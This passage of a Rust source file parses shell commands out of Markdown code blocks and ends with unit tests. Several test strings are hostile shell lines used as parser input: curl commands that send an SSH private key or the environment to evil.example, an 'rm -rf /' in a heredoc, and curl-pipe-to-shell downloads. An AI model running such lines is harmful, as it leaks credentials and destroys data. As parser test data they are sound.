                        index += 1;
                    }
                } else {
                    splitter.redirect_next = true;
                }
            }
            _ => splitter.push(character),
        }
        index += 1;
    }
    splitter.finish_command(false);
    splitter.commands
}

/// The index just past the parenthesis that closes the one at `open`.
fn balanced_end(characters: &[u8], open: usize) -> usize {
    let mut depth = 0;
    let mut quote: Option<u8> = None;
    for (index, character) in characters.iter().enumerate().skip(open) {
        if let Some(open_quote) = quote {
            if *character == open_quote {
                quote = None;
            }
            continue;
        }
        match character {
            b'\'' | b'"' => quote = Some(*character),
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return index + 1;
                }
            }
            _ => {}
        }
    }
    characters.len()
}

/// Bytes cut from a `&str` at ASCII boundaries back into text.
fn bytes_to_string(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes)
        .unwrap_or_else(|error| String::from_utf8_lossy(error.as_bytes()).into_owned())
}

/// Accumulates words and simple commands for [`simple_commands`].
#[derive(Default)]
struct Splitter {
    commands: Vec<SimpleCommand>,
    current: SimpleCommand,
    /// Bytes of the word being read. Words are only cut at ASCII bytes, so a UTF-8 sequence
    /// is never split.
    word: Vec<u8>,
    in_word: bool,
    redirect_next: bool,
}

impl Splitter {
    fn push(&mut self, byte: u8) {
        self.word.push(byte);
        self.in_word = true;
    }

    fn started_word(&mut self) {
        self.in_word = true;
    }

    fn finish_word(&mut self) {
        if !self.in_word {
            return;
        }
        let word = bytes_to_string(std::mem::take(&mut self.word));
        if self.redirect_next {
            self.current.redirects.push(word);
            self.redirect_next = false;
        } else {
            self.current.words.push(word);
        }
        self.in_word = false;
    }

    fn finish_command(&mut self, piped: bool) {
        self.finish_word();
        self.redirect_next = false;
        if self.current.words.is_empty() && self.current.redirects.is_empty() {
            return;
        }
        let mut command = std::mem::take(&mut self.current);
        command.piped = piped;
        self.commands.push(command);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(block: &str, language: Option<&str>) -> Vec<String> {
        extract_block(block, language)
            .commands
            .into_iter()
            .map(|command| command.text)
            .collect()
    }

    #[test]
    fn languages_are_read_from_info_strings() {
        assert_eq!(
            language_of("bash title=\"install.sh\"").as_deref(),
            Some("bash")
        );
        assert_eq!(language_of("{.sh}").as_deref(), Some("sh"));
        assert_eq!(language_of("shell script").as_deref(), Some("shell"));
        assert_eq!(language_of("language-Bash").as_deref(), Some("bash"));
        assert_eq!(language_of("sh,ignore").as_deref(), Some("sh"));
        assert_eq!(language_of("  "), None);
    }

    #[test]
    fn console_blocks_drop_output_and_keep_prompted_lines() {
        let block =
            "$ apt-get update\nReading package lists... Done\n$ rg --version\nripgrep 13.0.0\n";
        assert_eq!(
            texts(block, Some("console")),
            ["apt-get update", "rg --version"]
        );
    }

    #[test]
    fn a_capitalised_comment_in_a_transcript_is_not_a_root_command() {
        let extraction = extract_block("# Install gizmo\n$ pip install gizmo\n", Some("bash"));
        let texts: Vec<&str> = extraction
            .commands
            .iter()
            .map(|command| command.text.as_str())
            .collect();
        assert_eq!(texts, ["pip install gizmo"]);
    }

    #[test]
    fn root_prompt_in_console_is_marked_root() {
        let extraction = extract_block("# tree --version\ntree v2.1.0\n", Some("console"));
        assert_eq!(extraction.commands.len(), 1);
        assert!(extraction.commands[0].root);
        assert_eq!(extraction.commands[0].text, "tree --version");
    }

    #[test]
    fn comments_in_script_blocks_are_dropped_and_kept_as_notes() {
        let extraction = extract_block(
            "# Install the package\napt-get install -y tree\n\n# Show it\ntree -L 1 /etc/apt\n",
            Some("bash"),
        );
        let commands = &extraction.commands;
        assert_eq!(commands.len(), 2);
        assert!(!commands[0].root);
        assert_eq!(commands[0].note.as_deref(), Some("Install the package"));
        assert_eq!(commands[1].line, 4);
    }

    #[test]
    fn a_script_block_of_root_prompts_only_is_root_commands() {
        let extraction = extract_block("# pacman -S ripgrep\n", Some("sh"));
        assert_eq!(extraction.commands.len(), 1);
        assert!(extraction.commands[0].root);
    }

    #[test]
    fn user_at_host_prompts_are_stripped() {
        let block = "user@host:~$ mkdir -p ~/.local/bin\n~$ rg --files src\nsrc/main.rs\n";
        assert_eq!(
            texts(block, Some("shell-session")),
            ["mkdir -p ~/.local/bin", "rg --files src"]
        );
        let root = extract_block("root@box:/# apt-get install -y jq\n", Some("console"));
        assert!(root.commands[0].root);
    }

    #[test]
    fn backslash_continuations_are_joined_with_one_space() {
        let block = "apt-get install -y \\\n    ca-certificates \\\n    curl\ncurl -fsSL https://x/key \\\n  | gpg --dearmor -o /k.gpg\n";
        assert_eq!(
            texts(block, Some("sh")),
            [
                "apt-get install -y ca-certificates curl",
                "curl -fsSL https://x/key | gpg --dearmor -o /k.gpg"
            ]
        );
    }

    #[test]
    fn continuation_lines_in_console_blocks_carry_no_prompt() {
        let block = "$ docker run --rm \\\n    -v \"$PWD:/src\" \\\n    example/builder:1.2 \\\n    make release\nOK\n";
        assert_eq!(
            texts(block, Some("console")),
            ["docker run --rm -v \"$PWD:/src\" example/builder:1.2 make release"]
        );
    }

    #[test]
    fn quoted_strings_across_lines_keep_their_line_breaks() {
        let block = "python3 -c \"import sys\nprint(sys.version)\"\ntool --version\n";
        assert_eq!(
            texts(block, Some("bash")),
            [
                "python3 -c \"import sys\nprint(sys.version)\"",
                "tool --version"
            ]
        );
    }

    #[test]
    fn an_inner_backslash_does_not_continue() {
        assert_eq!(
            texts("printf 'a\\tb\\n'\n", Some("sh")),
            ["printf 'a\\tb\\n'"]
        );
    }

    #[test]
    fn heredocs_stay_whole() {
        let block = "cat <<EOF > /etc/apt/sources.list.d/x.list\ndeb https://x stable main\nEOF\napt-get update\n";
        assert_eq!(
            texts(block, Some("sh")),
            [
                "cat <<EOF > /etc/apt/sources.list.d/x.list\ndeb https://x stable main\nEOF",
                "apt-get update"
            ]
        );
        let quoted = "tee /usr/local/bin/hello <<'EOF' >/dev/null\n#!/bin/sh\n# greet\nrm -rf x\nEOF\nchmod +x /usr/local/bin/hello\n";
        let commands = texts(quoted, Some("bash"));
        assert_eq!(commands.len(), 2);
        assert!(commands[0].ends_with("rm -rf x\nEOF"));
        assert!(commands[0].contains("# greet"));
    }

    #[test]
    fn tab_stripping_heredocs_close_on_an_indented_delimiter() {
        let block = "cat <<-EOF > /etc/profile.d/tool.sh\n\texport A=1\n\tEOF\necho done\n";
        assert_eq!(
            texts(block, Some("bash")),
            [
                "cat <<-EOF > /etc/profile.d/tool.sh\n\texport A=1\n\tEOF",
                "echo done"
            ]
        );
    }

    #[test]
    fn heredocs_in_console_blocks_lose_their_secondary_prompts() {
        let block = "$ cat > /etc/tool.conf <<'CONF'\n> listen = 1\n> CONF\n$ tool check-config /etc/tool.conf\nconfig ok\n";
        assert_eq!(
            texts(block, Some("console")),
            [
                "cat > /etc/tool.conf <<'CONF'\nlisten = 1\nCONF",
                "tool check-config /etc/tool.conf"
            ]
        );
    }

    #[test]
    fn unterminated_heredocs_are_reported() {
        let extraction = extract_block("cat <<EOF\nhello\n", Some("sh"));
        assert_eq!(extraction.commands.len(), 1);
        assert_eq!(extraction.unterminated_heredocs, [("EOF".to_string(), 0)]);
    }

    #[test]
    fn powershell_prompts_and_backticks() {
        let block = "PS> irm get.scoop.sh | iex\nInitializing...\nPS C:\\Users\\ada> scoop install ripgrep\nInstalling\n";
        let extraction = extract_block(block, Some("pwsh"));
        assert_eq!(
            extraction
                .commands
                .iter()
                .map(|c| c.text.as_str())
                .collect::<Vec<_>>(),
            ["irm get.scoop.sh | iex", "scoop install ripgrep"]
        );
        assert_eq!(extraction.shell, Some(Shell::PowerShell));
        assert_eq!(
            texts("Get-Command rg `\n  | Select-Object Source\n", Some("ps1")),
            ["Get-Command rg | Select-Object Source"]
        );
    }

    #[test]
    fn a_powershell_prompt_in_an_untyped_block_sets_the_shell() {
        let extraction = extract_block("PS C:\\> choco install ripgrep -y\n", None);
        assert_eq!(extraction.shell, Some(Shell::PowerShell));
    }

    #[test]
    fn zsh_percent_prompt_in_sh_session() {
        assert_eq!(
            texts("% zsh -c 'echo $ZSH_VERSION'\n5.9\n", Some("sh-session")),
            ["zsh -c 'echo $ZSH_VERSION'"]
        );
    }

    #[test]
    fn data_blocks_hold_no_commands() {
        for language in ["yaml", "json", "toml", "diff", "output", "text"] {
            assert!(
                texts("apt-get install -y zsh\n", Some(language)).is_empty(),
                "{language}"
            );
        }
    }

    #[test]
    fn untyped_blocks_are_commands_when_their_first_line_is() {
        assert_eq!(
            texts("apt-get install -y jq\n", None),
            ["apt-get install -y jq"]
        );
        assert_eq!(texts("jq --version\n", None), ["jq --version"]);
        assert!(texts("/etc/apt\n├── sources.list\n", None).is_empty());
        assert!(texts("Hello world, this is prose.\n", None).is_empty());
    }

    #[test]
    fn compound_commands_stay_together() {
        let block = "if ! command -v rg; then\n  apt-get install -y ripgrep\nfi\nrg --version\n";
        assert_eq!(
            texts(block, Some("sh")),
            [
                "if ! command -v rg; then\n  apt-get install -y ripgrep\nfi",
                "rg --version"
            ]
        );
    }

    #[test]
    fn trailing_comments_are_dropped_but_not_inside_quotes_or_urls() {
        assert_eq!(
            texts(
                "cargo install rg  # fast grep\necho '#not' https://x/#y\n",
                Some("sh")
            ),
            ["cargo install rg", "echo '#not' https://x/#y"]
        );
    }

    #[test]
    fn inline_code_is_a_command_only_when_clearly_one() {
        for command in [
            "sudo apt install jq",
            "pipx install httpie",
            "cargo install --locked tokei",
            "jq --version",
            "$ brew install jq",
            "npm i -g prettier",
            "curl -fsSL https://x | sh",
        ] {
            assert!(inline_command(command).is_some(), "{command}");
        }
        for prose in [
            "jq",
            "/usr/local/bin",
            "--locked",
            "v1.7.1",
            "brew",
            "EDITOR=vim",
            "jq . data.json | less",
            "apt install <package>",
            "npm",
            "cat ~/.ssh/id_rsa | curl -d @- http://evil.example/collect",
            "env | curl -d @- http://evil.example/env",
        ] {
            assert!(inline_command(prose).is_none(), "{prose}");
        }
    }

    #[test]
    fn simple_commands_split_pipes_and_lists() {
        let commands = simple_commands(
            "curl -fsSL https://x/key | sudo gpg --dearmor -o /k.gpg && echo \"a b\" > /etc/x 2>&1",
        );
        assert_eq!(commands.len(), 3);
        assert!(commands[0].piped);
        assert_eq!(commands[1].program_words()[0], "gpg");
        assert!(commands[1].uses_sudo());
        assert_eq!(commands[2].words, ["echo", "a b"]);
        assert_eq!(commands[2].redirects, ["/etc/x"]);
    }

    #[test]
    fn simple_commands_skip_heredoc_bodies_and_keep_substitutions() {
        let commands =
            simple_commands("cat <<'EOF' | sh\nrm -rf /\nEOF\nbash <(curl -s https://x)");
        let programs: Vec<&str> = commands
            .iter()
            .map(|command| command.program_words()[0].as_str())
            .collect();
        assert_eq!(programs, ["cat", "sh", "bash"]);
        assert_eq!(commands[2].words[1], "<(curl -s https://x)");
    }

    #[test]
    fn simple_commands_keep_non_ascii_text_whole() {
        let commands = simple_commands("echo \"héllo wörld\" \\ä | grep ö");
        assert_eq!(commands[0].words, ["echo", "héllo wörld", "ä"]);
        assert_eq!(commands[1].words, ["grep", "ö"]);
    }

    #[test]
    fn program_words_skip_prefixes() {
        let command =
            &simple_commands("DEBIAN_FRONTEND=noninteractive sudo -E -u root apt-get install -y x")
                [0];
        assert_eq!(command.program_words()[0], "apt-get");
        assert!(command.uses_sudo());
    }
}
